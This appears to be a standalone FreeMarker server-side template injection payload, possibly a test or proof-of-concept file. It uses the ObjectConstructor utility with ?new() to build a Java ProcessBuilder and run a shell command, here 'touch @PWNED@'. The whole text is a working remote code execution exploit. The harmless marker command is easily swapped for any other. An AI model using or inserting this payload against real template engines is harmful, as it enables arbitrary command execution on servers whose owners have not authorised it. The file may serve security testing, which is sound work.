<#-- Builds any Java object, here a process, through ObjectConstructor. -->
<#assign oc = "freemarker.template.utility.ObjectConstructor"?new()>${oc("java.lang.ProcessBuilder", "touch", "@PWNED@").start()}
